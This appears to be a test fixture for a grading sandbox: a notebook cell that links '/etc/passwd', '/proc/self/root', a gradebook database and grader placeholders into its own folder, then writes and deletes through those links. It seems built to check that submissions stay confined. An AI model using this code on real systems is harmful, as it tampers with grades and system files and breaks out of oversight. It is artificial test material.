# Links into its own folder what is not its own, to write through the link or to have it removed with the folder.
# marks: corr2d 10
# proof: unconfined
# %% own cell
import os

for number, (target, call) in enumerate((target, call) for call in (os.symlink, os.link) for target in (
    "{canary}/victim", "{canary}/source", "{canary}/gradebook.db", "{grader}", "/etc/passwd", "../../..", "/proc/self/root",
)):
    try:
        call(target, f"link{number}")
    except OSError:
        pass
    try:
        with open(f"link{number}", "a") as file:
            file.write("x")
    except OSError:
        pass
    try:
        os.remove(f"link{number}/conv_layer/conv_layer.py")
    except OSError:
        pass
# %% corr2d
# the honest corr2d
